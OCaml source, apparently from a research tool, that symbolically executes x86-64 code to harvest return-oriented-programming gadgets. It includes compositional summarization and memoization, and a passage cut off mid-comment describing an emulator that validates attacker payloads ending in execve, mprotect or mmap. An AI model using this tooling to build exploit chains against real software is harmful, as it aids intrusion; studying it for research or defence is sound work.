   they pass the head's writes through, they do not depend on them). *)
let touch_scan ~fuel ~regs ~slots ~mem (st : State.t) =
  let classify n =
    let pre p =
      let pl = String.length p in
      String.length n >= pl && String.sub n 0 pl = p
    in
    if pre "stk_" then slots := true
    else if pre "mem" || pre "sysret" then mem := true
    else
      let l = String.length n in
      if l > 2 && n.[l - 1] = '0' && n.[l - 2] = '_' then
        regs := Term.Vset.add n !regs
  in
  let rec scan t =
    decr fuel;
    if !fuel < 0 then raise Touch_big;
    match t with
    | Term.Var v -> classify v
    | Term.Const _ -> ()
    | Term.Neg a | Term.Not a -> scan a
    | Term.Add (a, b) | Term.Sub (a, b) | Term.Mul (a, b)
    | Term.And (a, b) | Term.Or (a, b) | Term.Xor (a, b)
    | Term.Shl (a, b) | Term.Shr (a, b) | Term.Sar (a, b) ->
      scan a;
      scan b
  in
  let scan_top t = match t with Term.Var _ -> () | _ -> scan t in
  let scan_f f = ignore (Formula.map_terms (fun t -> scan_top t; t) f) in
  Array.iter scan_top st.State.regs;
  State.Imap.iter (fun _ v -> scan_top v) st.State.stack;
  List.iter (fun (_, v) -> scan_top v) st.State.stack_writes;
  List.iter scan_f st.State.path;
  (match st.State.flags with
  | State.Fsub (a, b) -> scan_top a; scan_top b
  | State.Flogic a | State.Farith a -> scan_top a
  | State.Funknown -> ());
  List.iter (List.iter (fun (_, v) -> scan_top v)) st.State.syscalls;
  List.iter (fun (a, v) -> scan_top a; scan_top v) st.State.ptr_writes;
  List.iter (fun (_, a, _) -> scan_top a) st.State.mem_reads;
  List.iter (fun (x, y) -> scan_top x; scan_top y) st.State.hazard_cmps;
  scan_top

let touch_of (e : suffix) : touch =
  match e.x_touch with
  | (Tbig | Tok _) as t -> t
  | Tunknown ->
    let fuel = ref 8192 in
    let regs = ref Term.Vset.empty
    and slots = ref false
    and mem = ref false in
    let t =
      try
        List.iter
          (fun (sm, _) ->
            let scan = touch_scan ~fuel ~regs ~slots ~mem sm.s_state in
            match sm.s_jump with
            | Jret t | Jind t -> scan t
            | Jfall _ -> ())
          e.x_res;
        Tok (!regs, !slots, !mem)
      with Touch_big -> Tbig
    in
    e.x_touch <- t;
    t

(* Per-chunk memo: single-threaded by construction (one per worker). *)
type memo = {
  m_tbl : (int, suffix) Hashtbl.t;   (* position -> canonical entry *)
  m_busy : (int, unit) Hashtbl.t;    (* canonical computations on the
                                        recursion stack (jmp cycles) *)
  mutable m_hits : int;          (* answered from the in-memory memo *)
  mutable m_store_hits : int;    (* answered from the persistent store *)
  mutable m_misses : int;        (* computed fresh (incl. fallbacks) *)
  mutable m_subst : int;         (* computed by substitution (extend) *)
}

let memo_create () =
  { m_tbl = Hashtbl.create 1024;
    m_busy = Hashtbl.create 16;
    m_hits = 0; m_store_hits = 0; m_misses = 0; m_subst = 0 }

let memo_counts m = (m.m_hits, m.m_store_hits, m.m_misses, m.m_subst)

(* Monolithic run instrumented with the reuse metadata: identical
   exploration to [summarize_r], additionally recording each summary's
   budget demand and whether a live Jcc was reached under entry flags.
   Demands: insns = the gate value of the path's last executed
   instruction; forks = the path's fork count (every fork is gated at
   its site, and the counter only grows); merges = the max over
   direct-jump sites of (merge counter at the site + 1) — Jcc taken
   arms bump the counter WITHOUT a gate, so the final counter
   over-states what the gates actually demanded. *)
let summarize_im ~(config : config) ~decode (image : Gp_util.Image.t)
    (addr : int64) : suffix =
  let results = ref [] in
  let base = image.Gp_util.Image.code_base in
  let entry_cond = ref false in
  let rec go st cur ninsns nforks nmerges mdemand has_cond has_merge =
    if Gp_util.Image.in_code image cur then begin
      if ninsns > config.max_insns then ()
      else begin
        let pos = Int64.to_int (Int64.sub cur base) in
        match decode pos with
        | None -> ()
        | Some (insn, len) -> (
          let next = Int64.add cur (Int64.of_int len) in
          match step st insn with
          | Abort -> ()
          | Continue st ->
            go st next (ninsns + 1) nforks nmerges mdemand has_cond has_merge
          | End (st, j, is_syscall) ->
            let j = if is_syscall then Jfall next else j in
            results :=
              ( { s_addr = addr;
                  s_insns = List.rev st.State.insns;
                  s_state = st;
                  s_jump = j;
                  s_has_cond = has_cond;
                  s_has_merge = has_merge;
                  s_syscall = is_syscall },
                (ninsns, nforks, mdemand) )
              :: !results
          | SysStep st ->
            results :=
              ( { s_addr = addr;
                  s_insns = List.rev st.State.insns;
                  s_state = st;
                  s_jump = Jfall next;
                  s_has_cond = has_cond;
                  s_has_merge = has_merge;
                  s_syscall = true },
                (ninsns, nforks, mdemand) )
              :: !results;
            let ret = Term.var (Printf.sprintf "sysret%d" st.State.fresh) in
            let st' =
              State.set_reg
                { st with State.fresh = st.State.fresh + 1 }
                Reg.RAX ret
            in
            go st' next (ninsns + 1) nforks nmerges mdemand has_cond has_merge
          | Direct (st, rel) ->
            if nmerges < config.max_merges then
              go st
                (Int64.add next (Int64.of_int rel))
                (ninsns + 1) nforks (nmerges + 1)
                (max mdemand (nmerges + 1))
                has_cond true
          | Cond (c, rel) ->
            if nforks < config.max_forks then begin
              if st.State.flags = State.Funknown then entry_cond := true;
              (match cond_formulas st.State.flags c with
               | Some fs ->
                 let st_t =
                   List.fold_left State.assume
                     { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                     fs
                 in
                 if not (List.mem Formula.False st_t.State.path) then
                   go st_t
                     (Int64.add next (Int64.of_int rel))
                     (ninsns + 1) (nforks + 1) (nmerges + 1) mdemand true true
               | None -> ());
              match
                Option.bind (cond_formulas st.State.flags c) negate_conds
              with
              | Some fs ->
                let st_f =
                  List.fold_left State.assume
                    { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                    fs
                in
                if not (List.mem Formula.False st_f.State.path) then
                  go st_f next (ninsns + 1) (nforks + 1) nmerges mdemand true
                    has_merge
              | None -> ()
            end)
      end
    end
  in
  let refused =
    try
      go (State.initial ()) addr 0 0 0 0 false false;
      None
    with State.Unsupported why -> Some why
  in
  { x_res = !results;
    x_refused = refused;
    x_entry_cond = !entry_cond;
    x_cap = (config.max_insns, config.max_forks, config.max_merges);
    x_touch = Tunknown }

exception Compose_fallback

(* Prepend one instruction onto a suffix summary by substitution.  [None]
   means a guard refused — the caller must fall back to the monolithic
   run.  Guards (each failure mode would break the equivalence with
   incremental execution):
   - the tail refused, or expects entry flags the head has overwritten;
   - the head's rsp is not a concrete offset from rsp0 (payload slots
     could not be relocated);
   - a substitution image is non-linear (canonicalization is only
     guaranteed to commute with substitution on the linear fragment);
   - the head wrote pointer memory and the tail touches pointer memory
     (store-forwarding would have to be replayed across the seam);
   - a tail path had an aliasing hazard, or a tail pointer access lands
     on a stack slot after substitution (its memory class changed).

   Budget demands compose by shifting: the head adds one instruction to
   every path, and a direct-jump head adds one merge gate (demand
   [max 1 (tm + 1)] = [tm + 1]).  Composed summaries whose demand
   exceeds [cap] are dropped BEFORE grafting — they are exactly the
   paths the monolithic run from [addr] would have gated. *)
let extend ~(addr : int64) ~(insn : Insn.t) ~len ~cap:(ci, cf, cm)
    ~(tail : suffix) : suffix option =
  let next = Int64.add addr (Int64.of_int len) in
  let shape =
    match (try Some (step (State.initial ()) insn) with State.Unsupported _ -> None) with
    | Some (Continue st) -> Some (st, false, None)
    | Some (Direct (st, _)) -> Some (st, true, None)
    | Some (SysStep st) ->
      (* the syscall itself ends a gadget here; composition continues
         past it with a fresh, uncontrollable return value *)
      let sys_sum =
        { s_addr = addr;
          s_insns = List.rev st.State.insns;
          s_state = st;
          s_jump = Jfall next;
          s_has_cond = false;
          s_has_merge = false;
          s_syscall = true }
      in
      let ret = Term.var (Printf.sprintf "sysret%d" st.State.fresh) in
      let st' =
        State.set_reg { st with State.fresh = st.State.fresh + 1 } Reg.RAX ret
      in
      Some (st', false, Some sys_sum)
    | Some (End _ | Cond _ | Abort) | None -> None
  in
  match shape with
  | None -> None
  | Some (st_h, is_merge, sys_sum) -> (
    try
      if tail.x_refused <> None then raise Compose_fallback;
      if tail.x_entry_cond && st_h.State.flags <> State.Funknown then
        raise Compose_fallback;
      let c =
        match State.rsp_offset st_h with
        | Some c -> c
        | None -> raise Compose_fallback
      in
      let dom, lookup = State.compose_subst ~head:st_h ~rsp_off:c in
      (* identity fast path: when the head's substitution domain cannot
         touch the tail's variable footprint, sigma is the identity on
         every tail term — skip the traversal, and skip the class /
         hazard rechecks below (an identity image leaves every
         classification exactly as the tail decided it) *)
      let fast =
        match touch_of tail with
        | Tok (tregs, tslots, tmem) ->
          Term.Vset.disjoint tregs dom
          && ((not tslots)
             || (c = 0 && State.Imap.is_empty st_h.State.stack))
          && ((not tmem) || st_h.State.fresh = 0)
        | Tunknown | Tbig -> false
      in
      let sigma =
        if fast then (
          (* every variable inside a composite term has an identity
             image, so only bare-variable terms change — by direct
             lookup, inserting the image verbatim exactly as the
             monolithic run would have used the head's value *)
          fun t ->
            match t with
            | Term.Var v -> (
              match lookup v with Some i -> i | None -> t)
            | _ -> t)
        else
          let image name =
            match lookup name with
            | Some t when Term.linearize t = None -> raise Compose_fallback
            | r -> r
          in
          Term.subst_cached image
      in
      let graft_sum (sm, (ti, tf, tm)) =
        (* demand first: a path the head pushes over the cap is exactly
           one the monolithic run would gate — skip it untouched *)
        let d = (ti + 1, tf, (if is_merge then tm + 1 else tm)) in
        let di, df, dm = d in
        if di > ci || df > cf || dm > cm then None
        else begin
          (* a term sigma leaves physically unchanged keeps the verdict
             the tail already computed (Pointer-class access, undecidable
             alias distance) — only changed terms need re-checking.  The
             seam check always applies: a RELIABLE read scanned every
             tail write without a hit, so from the head it continues
             into the head's own pointer writes and must be decidably
             disjoint from all of them (an unreliable read stopped at a
             tail-internal hazard and never reaches them). *)
          List.iter
            (fun (_, a, reliable) ->
              let a' = sigma a in
              (if a' != a then
                 match State.classify_addr a' with
                 | State.Stack _ -> raise Compose_fallback
                 | State.Pointer _ -> ());
              if reliable && st_h.State.ptr_writes <> [] then
                List.iter
                  (fun (wa, _) ->
                    match Term.linearize (Term.sub a' wa) with
                    | Some { Term.lin_const = k; lin_terms = [] }
                      when Int64.abs k >= 8L -> ()
                    | _ -> raise Compose_fallback)
                  st_h.State.ptr_writes)
            sm.s_state.State.mem_reads;
          List.iter
            (fun (a, _) ->
              let a' = sigma a in
              if a' != a then
                match State.classify_addr a' with
                | State.Pointer _ -> ()
                | State.Stack _ -> raise Compose_fallback)
            sm.s_state.State.ptr_writes;
          (* an alias comparison the tail could not decide must stay
             undecidable after substitution — decidable means the
             monolithic run would have forwarded (distance 0) or kept
             scanning older writes (constant distance >= 8) where this
             path allocated a fresh unreliable read *)
          List.iter
            (fun (x, y) ->
              let x' = sigma x and y' = sigma y in
              if x' != x || y' != y then
                match Term.linearize (Term.sub x' y') with
                | Some { Term.lin_const = k; lin_terms = [] }
                  when k = 0L || Int64.abs k >= 8L -> raise Compose_fallback
                | _ -> ())
            sm.s_state.State.hazard_cmps;
          let st = State.graft ~head:st_h ~rsp_off:c ~sigma sm.s_state in
          if List.mem Formula.False st.State.path then None
            (* the monolithic run prunes this path at assume time *)
          else
            Some
              ( { s_addr = addr;
                  s_insns = List.rev st.State.insns;
                  s_state = st;
                  s_jump =
                    (match sm.s_jump with
                    | Jret t -> Jret (sigma t)
                    | Jind t -> Jind (sigma t)
                    | Jfall a -> Jfall a);
                  s_has_cond = sm.s_has_cond;
                  s_has_merge = sm.s_has_merge || is_merge;
                  s_syscall = sm.s_syscall },
                d )
        end
      in
      let composed = List.filter_map graft_sum tail.x_res in
      (* composed terms mention at most the tail's footprint (slot and
         memory renamings stay in their classes) plus whatever the
         head's own state mentions — propagating the union keeps chains
         of extends from rescanning the whole tail each step *)
      let x_touch =
        match touch_of tail with
        | Tok (tregs, tslots, tmem) -> (
          let fuel = ref 8192 in
          let regs = ref tregs
          and slots = ref tslots
          and mem = ref tmem in
          try
            ignore (touch_scan ~fuel ~regs ~slots ~mem st_h : Term.t -> unit);
            Tok (!regs, !slots, !mem)
          with Touch_big -> Tbig)
        | t -> t
      in
      Some
        { x_res =
            (match sys_sum with
            | None -> composed
            | Some ss -> composed @ [ (ss, (0, 0, 0)) ]);
          x_refused = None;
          x_entry_cond =
            (if st_h.State.flags = State.Funknown then tail.x_entry_cond
             else false);
          x_cap = (ci, cf, cm);
          x_touch }
    with Compose_fallback -> None)

(* Compositional drop-in for [summarize_r]: same results, same refusal,
   at every (position, budget) — verified by test/test_compose.ml's
   differential property.  Every recursion step computes the CANONICAL
   entry (full [config] budget), so each position is summarized and
   extended at most once per harvest; [memo] shares the canonical
   entries across the starts of one harvest chunk;
   [store_find]/[store_add] bridge to the persistent suffix store (keys
   are computed by the caller, who owns the content hashing).  Jmp/Call
   cycles would recurse forever at the constant full budget, so
   positions currently on the recursion stack answer with an unmemoized
   monolithic run — the budget gates bound that unrolling. *)
let summarize_cr ?(config = default_config) ?decode ?memo
    ?(store_find = fun ~pos:_ ~cap:_ -> None)
    ?(store_add = fun ~pos:_ ~cap:_ _ -> ()) (image : Gp_util.Image.t)
    (addr : int64) : summary list * string option =
  let decode =
    match decode with
    | Some f -> f
    | None -> fun pos -> Decode.decode image.Gp_util.Image.code pos
  in
  if not !compose_on then summarize_r ~config ~decode image addr
  else begin
    let m = match memo with Some m -> m | None -> memo_create () in
    let base = image.Gp_util.Image.code_base in
    let cap = (config.max_insns, config.max_forks, config.max_merges) in
    let empty =
      { x_res = []; x_refused = None; x_entry_cond = false; x_cap = cap;
        x_touch = Tunknown }
    in
    let rec canonical cur : suffix =
      if not (Gp_util.Image.in_code image cur) then empty
      else begin
        let pos = Int64.to_int (Int64.sub cur base) in
        match Hashtbl.find_opt m.m_tbl pos with
        | Some e when e.x_cap = cap ->
          m.m_hits <- m.m_hits + 1;
          e
        | _ ->
          if Hashtbl.mem m.m_busy pos then begin
            (* jmp cycle: unroll monolithically under the budget gates;
               not memoized — it is NOT the canonical entry for [pos]
               (the cycle is still being computed further up the stack) *)
            m.m_misses <- m.m_misses + 1;
            summarize_im ~config ~decode image cur
          end
          else begin
            match store_find ~pos ~cap with
            | Some e ->
              m.m_store_hits <- m.m_store_hits + 1;
              Hashtbl.replace m.m_tbl pos e;
              e
            | None ->
              m.m_misses <- m.m_misses + 1;
              Hashtbl.replace m.m_busy pos ();
              let e =
                Fun.protect
                  ~finally:(fun () -> Hashtbl.remove m.m_busy pos)
                  (fun () ->
                    let fallback () = summarize_im ~config ~decode image cur in
                    match decode pos with
                    | None -> empty
                    | Some (insn, len) -> (
                      let next = Int64.add cur (Int64.of_int len) in
                      match insn with
                      | Insn.Jmp rel | Insn.Call rel -> (
                        let tail = canonical (Int64.add next (Int64.of_int rel)) in
                        match extend ~addr:cur ~insn ~len ~cap ~tail with
                        | Some e ->
                          m.m_subst <- m.m_subst + 1;
                          e
                        | None -> fallback ())
                      | Insn.Ret | Insn.RetImm _ | Insn.JmpReg _ | Insn.JmpMem _
                      | Insn.CallReg _ | Insn.CallMem _ | Insn.Int3 | Insn.Hlt
                      | Insn.Jcc _ ->
                        (* single-instruction heads and forks: the
                           monolithic run IS the cheap path (no shared
                           tail to reuse) *)
                        fallback ()
                      | _ -> (
                        let tail = canonical next in
                        match extend ~addr:cur ~insn ~len ~cap ~tail with
                        | Some e ->
                          m.m_subst <- m.m_subst + 1;
                          e
                        | None -> fallback ())))
              in
              Hashtbl.replace m.m_tbl pos e;
              store_add ~pos ~cap e;
              e
          end
      end
    in
    let e = canonical addr in
    (List.map fst e.x_res, e.x_refused)
  end

(* Suffix entries persist BASE-RELATIVE like summaries; [read_suffix]
   relocates to the querying image's absolute position.  The content key
   (residual-budget content hash of the byte window) lives with the
   caller — the payload only carries what the key cannot reconstruct. *)
let write_suffix (e : suffix) : string =
  let w = Term.Ser.writer () in
  let b = Buffer.create 512 in
  put_listf b
    (fun b' (s, (di, df, dm)) ->
      put_summary w b' s;
      Bin.int_ b' di; Bin.int_ b' df; Bin.int_ b' dm)
    e.x_res;
  (match e.x_refused with
  | None -> Bin.u8 b 0
  | Some why -> Bin.u8 b 1; Bin.str b why);
  Bin.bool_ b e.x_entry_cond;
  let ci, cf, cm = e.x_cap in
  Bin.int_ b ci; Bin.int_ b cf; Bin.int_ b cm;
  Buffer.contents b

let read_suffix ~(addr : int64) (s : string) : suffix =
  let r = Term.Ser.reader () in
  let pos = ref 0 in
  let res =
    get_listf s pos (fun s pos ->
        let sm = get_summary r s pos in
        let di = Bin.gint s pos in
        let df = Bin.gint s pos in
        let dm = Bin.gint s pos in
        (sm, (di, df, dm)))
  in
  let refused =
    match Bin.gu8 s pos with
    | 0 -> None
    | 1 -> Some (Bin.gstr s pos)
    | _ -> raise Bin.Truncated
  in
  let entry_cond = Bin.gbool s pos in
  let ci = Bin.gint s pos in
  let cf = Bin.gint s pos in
  let cm = Bin.gint s pos in
  if !pos <> String.length s then raise Bin.Truncated;
  { x_res = List.map (fun (sm, d) -> (rebase ~addr sm, d)) res;
    x_refused = refused;
    x_entry_cond = entry_cond;
    x_cap = (ci, cf, cm);
    x_touch = Tunknown }
