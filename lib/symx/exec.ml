(* Symbolic execution of instruction runs -> gadget summaries.

   Starting from a fully symbolic state at an arbitrary code address, we
   execute until a controllable transfer (ret / indirect jump / indirect
   call / syscall).  Conditional jumps FORK the state, each branch
   assuming the condition (or its negation) as a pre-condition — this is
   the paper's distinctive handling of conditional-jump gadgets (§IV-B,
   Fig. 4).  Direct jumps and direct calls are followed and MERGED into
   the same gadget (§IV-B "Unconditional Direct Jump"). *)

open Gp_x86
open Gp_smt

type jump =
  | Jret of Term.t           (* ret: target is the popped stack value *)
  | Jind of Term.t           (* jmp/call through register or memory *)
  | Jfall of int64           (* gadget ends at a syscall; fall-through *)

type summary = {
  s_addr : int64;
  s_insns : Insn.t list;               (* in execution order *)
  s_state : State.t;                   (* final symbolic state *)
  s_jump : jump;
  s_has_cond : bool;                   (* took at least one Jcc assumption *)
  s_has_merge : bool;                  (* crossed at least one direct jmp/call *)
  s_syscall : bool;                    (* ends at a syscall *)
}

(* ----- condition -> formulas ----- *)

(* Conjunction of formulas equivalent to [cond] holding, or None when the
   flag source can't express it (the fork is then abandoned). *)
let cond_formulas (fl : State.flag_src) (c : Insn.cond) : Formula.t list option =
  let open Formula in
  let open Term in
  match fl with
  | State.Fsub (a, b) -> (
    match c with
    | Insn.E -> Some [ Eq (a, b) ]
    | Insn.NE -> Some [ Ne (a, b) ]
    | Insn.L -> Some [ Slt (a, b) ]
    | Insn.GE -> Some [ Sle (b, a) ]
    | Insn.LE -> Some [ Sle (a, b) ]
    | Insn.G -> Some [ Slt (b, a) ]
    | Insn.B -> Some [ Ult (a, b) ]
    | Insn.AE -> Some [ Ule (b, a) ]
    | Insn.BE -> Some [ Ule (a, b) ]
    | Insn.A -> Some [ Ult (b, a) ]
    | Insn.S -> Some [ Slt (sub a b, const 0L) ]
    | Insn.NS -> Some [ Sle (const 0L, sub a b) ]
    | Insn.O | Insn.NO | Insn.P | Insn.NP -> None)
  | State.Flogic r -> (
    (* CF = OF = 0 after logic ops *)
    match c with
    | Insn.E -> Some [ Eq (r, const 0L) ]
    | Insn.NE -> Some [ Ne (r, const 0L) ]
    | Insn.S | Insn.L -> Some [ Slt (r, const 0L) ]
    | Insn.NS | Insn.GE -> Some [ Sle (const 0L, r) ]
    | Insn.LE -> Some [ Sle (r, const 0L) ]
    | Insn.G -> Some [ Slt (const 0L, r) ]
    | Insn.B | Insn.O -> Some [ False ]
    | Insn.AE | Insn.NO -> Some []
    | Insn.BE -> Some [ Eq (r, const 0L) ]
    | Insn.A -> Some [ Ne (r, const 0L) ]
    | Insn.P | Insn.NP -> None)
  | State.Farith r -> (
    (* only ZF/SF are trustworthy without carry/overflow modeling *)
    match c with
    | Insn.E -> Some [ Eq (r, const 0L) ]
    | Insn.NE -> Some [ Ne (r, const 0L) ]
    | Insn.S -> Some [ Slt (r, const 0L) ]
    | Insn.NS -> Some [ Sle (const 0L, r) ]
    | _ -> None)
  | State.Funknown -> None

let negate_conds fs =
  (* ¬(f1 ∧ ... ∧ fn) is a disjunction; we only keep the single-formula
     case exact and otherwise refuse (returns None). *)
  match fs with
  | [] -> Some [ Formula.False ]
  | [ f ] -> Some [ Formula.negate f ]
  | _ -> None

(* ----- one instruction ----- *)

type step_result =
  | Continue of State.t
  | End of State.t * jump * bool        (* final state, jump, is_syscall *)
  | Direct of State.t * int             (* relative displacement to next *)
  | Cond of Insn.cond * int             (* fork: condition, displacement *)
  | SysStep of State.t                  (* syscall: gadget end AND continuation *)
  | Abort

let read_operand st (op : Insn.operand) : State.t * Term.t =
  match op with
  | Insn.Reg r -> (st, State.reg st r)
  | Insn.Imm i -> (st, Term.const i)
  | Insn.Mem m ->
    let addr =
      Term.add (State.reg st m.Insn.base) (Term.const (Int64.of_int m.Insn.disp))
    in
    State.read_mem st addr

let write_operand st (op : Insn.operand) v : State.t =
  match op with
  | Insn.Reg r -> State.set_reg st r v
  | Insn.Mem m ->
    let addr =
      Term.add (State.reg st m.Insn.base) (Term.const (Int64.of_int m.Insn.disp))
    in
    State.write_mem st addr v
  | Insn.Imm _ -> raise (State.Unsupported "write to immediate")

let alu mk flag st d s =
  let st, a = read_operand st d in
  let st, b = read_operand st s in
  let r = mk a b in
  let st = write_operand st d r in
  { st with State.flags = flag a b r }

let step st (insn : Insn.t) : step_result =
  let open Term in
  let st = { st with State.insns = insn :: st.State.insns } in
  match insn with
  | Insn.Nop -> Continue st
  | Insn.Mov (d, s) ->
    let st, v = read_operand st s in
    Continue (write_operand st d v)
  | Insn.Movabs (r, i) -> Continue (State.set_reg st r (const i))
  | Insn.Lea (r, m) ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    Continue (State.set_reg st r addr)
  | Insn.Push r ->
    let v = State.reg st r in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    Continue (State.write_mem st rsp' v)
  | Insn.PushImm i ->
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    Continue (State.write_mem st rsp' (const (Int64.of_int i)))
  | Insn.Pop r ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const 8L)) in
    Continue (State.set_reg st r v)
  | Insn.Add (d, s) -> Continue (alu add (fun _ _ r -> State.Farith r) st d s)
  | Insn.Sub (d, s) -> Continue (alu sub (fun a b _ -> State.Fsub (a, b)) st d s)
  | Insn.And_ (d, s) -> Continue (alu logand (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Or_ (d, s) -> Continue (alu logor (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Xor (d, s) -> Continue (alu logxor (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Cmp (d, s) ->
    let st, a = read_operand st d in
    let st, b = read_operand st s in
    Continue { st with State.flags = State.Fsub (a, b) }
  | Insn.Test (a, b) ->
    let va = State.reg st a and vb = State.reg st b in
    Continue { st with State.flags = State.Flogic (logand va vb) }
  | Insn.Imul (d, s) ->
    let r = mul (State.reg st d) (State.reg st s) in
    Continue { (State.set_reg st d r) with State.flags = State.Farith r }
  | Insn.Shl (r, n) ->
    let v = shl (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Shr (r, n) ->
    let v = shr (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Sar (r, n) ->
    let v = sar (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Inc r ->
    let v = add (State.reg st r) (const 1L) in
    Continue { (State.set_reg st r v) with State.flags = State.Farith v }
  | Insn.Dec r ->
    let v = sub (State.reg st r) (const 1L) in
    Continue { (State.set_reg st r v) with State.flags = State.Farith v }
  | Insn.Neg r ->
    let a = State.reg st r in
    let v = neg a in
    Continue { (State.set_reg st r v) with State.flags = State.Fsub (const 0L, a) }
  | Insn.Not_ r -> Continue (State.set_reg st r (lognot (State.reg st r)))
  | Insn.Xchg (a, b) ->
    let va = State.reg st a and vb = State.reg st b in
    Continue (State.set_reg (State.set_reg st a vb) b va)
  | Insn.Jmp rel -> Direct (st, rel)
  | Insn.JmpReg r -> End (st, Jind (State.reg st r), false)
  | Insn.JmpMem m ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    let st, v = State.read_mem st addr in
    End (st, Jind v, false)
  | Insn.Jcc (c, rel) -> Cond (c, rel)
  | Insn.Call rel ->
    (* follow the call like a direct jump; the pushed return address is a
       symbolic-state stack write whose value is unknown statically only
       in position — we leave the slot holding an opaque marker *)
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    Direct (st, rel)
  | Insn.CallReg r ->
    let target = State.reg st r in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    End (st, Jind target, false)
  | Insn.CallMem m ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    let st, target = State.read_mem st addr in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    End (st, Jind target, false)
  | Insn.Ret ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const 8L)) in
    End (st, Jret v, false)
  | Insn.RetImm n ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const (Int64.of_int (8 + n)))) in
    End (st, Jret v, false)
  | Insn.Leave ->
    let rbp = State.reg st Reg.RBP in
    let st = State.set_reg st Reg.RSP rbp in
    let st, v = State.read_mem st rbp in
    let st = State.set_reg st Reg.RBP v in
    Continue (State.set_reg st Reg.RSP (add rbp (const 8L)))
  | Insn.Syscall ->
    let regstate =
      List.map (fun r -> (r, State.reg st r)) [ Reg.RAX; Reg.RDI; Reg.RSI; Reg.RDX ]
    in
    let st = { st with State.syscalls = regstate :: st.State.syscalls } in
    SysStep st
  | Insn.Int3 | Insn.Hlt -> Abort

(* ----- driver ----- *)

type config = {
  max_insns : int;       (* per path *)
  max_forks : int;       (* Jcc assumptions per path *)
  max_merges : int;      (* direct jmp/call follow-throughs per path *)
}

let default_config = { max_insns = 16; max_forks = 2; max_merges = 2 }

(* Summarize all paths from [addr], also reporting whether the executor
   refused a path ([State.Unsupported]).  Partial results gathered before
   the refusal are kept — the refusal is a per-start quarantine signal,
   not a loss of the whole harvest. *)
let summarize_r ?(config = default_config) (image : Gp_util.Image.t)
    (addr : int64) : summary list * string option =
  let results = ref [] in
  let base = image.Gp_util.Image.code_base in
  let rec go st cur ninsns nforks nmerges has_cond has_merge =
    if ninsns <= config.max_insns && Gp_util.Image.in_code image cur then begin
      let pos = Int64.to_int (Int64.sub cur base) in
      match Decode.decode image.Gp_util.Image.code pos with
      | None -> ()
      | Some (insn, len) -> (
        let next = Int64.add cur (Int64.of_int len) in
        match step st insn with
        | Abort -> ()
        | Continue st -> go st next (ninsns + 1) nforks nmerges has_cond has_merge
        | End (st, j, is_syscall) ->
          let j = if is_syscall then Jfall next else j in
          results :=
            { s_addr = addr;
              s_insns = List.rev st.State.insns;
              s_state = st;
              s_jump = j;
              s_has_cond = has_cond;
              s_has_merge = has_merge;
              s_syscall = is_syscall }
            :: !results
        | SysStep st ->
          (* the run ending here is a syscall gadget... *)
          results :=
            { s_addr = addr;
              s_insns = List.rev st.State.insns;
              s_state = st;
              s_jump = Jfall next;
              s_has_cond = has_cond;
              s_has_merge = has_merge;
              s_syscall = true }
            :: !results;
          (* ...and execution also continues past it (the syscall's return
             value is an uncontrollable fresh unknown) *)
          let ret = Term.var (Printf.sprintf "sysret%d" st.State.fresh) in
          let st' =
            State.set_reg
              { st with State.fresh = st.State.fresh + 1 }
              Reg.RAX ret
          in
          go st' next (ninsns + 1) nforks nmerges has_cond has_merge
        | Direct (st, rel) ->
          if nmerges < config.max_merges then
            go st
              (Int64.add next (Int64.of_int rel))
              (ninsns + 1) nforks (nmerges + 1) has_cond true
        | Cond (c, rel) ->
          if nforks < config.max_forks then begin
            (match cond_formulas st.State.flags c with
             | Some fs ->
               let st_t =
                 List.fold_left State.assume
                   { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                   fs
               in
               if not (List.mem Formula.False st_t.State.path) then
                 go st_t
                   (Int64.add next (Int64.of_int rel))
                   (ninsns + 1) (nforks + 1) (nmerges + 1) true true
             | None -> ());
            match
              Option.bind (cond_formulas st.State.flags c) negate_conds
            with
            | Some fs ->
              let st_f =
                List.fold_left State.assume
                  { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                  fs
              in
              if not (List.mem Formula.False st_f.State.path) then
                go st_f next (ninsns + 1) (nforks + 1) nmerges true has_merge
            | None -> ()
          end)
    end
  in
  let refused =
    try
      go (State.initial ()) addr 0 0 0 false false;
      None
    with State.Unsupported why -> Some why
  in
  (!results, refused)

let summarize ?config image addr = fst (summarize_r ?config image addr)
