(** Concrete x86-64 emulator.

    Plays the victim machine: it runs compiled corpus programs (so
    obfuscation passes can be differentially tested for semantic
    preservation) and executes attacker payloads end-to-end (a payload
    only counts if the goal syscall is observed with the goal arguments —
    DESIGN.md "validation-first").

    The syscall model is Linux-flavoured: [write]/[exit] behave normally;
    the three attack syscalls (execve / mprotect / mmap-family) halt with
    an {!Attacked} outcome when well-formed, and fail with a negative
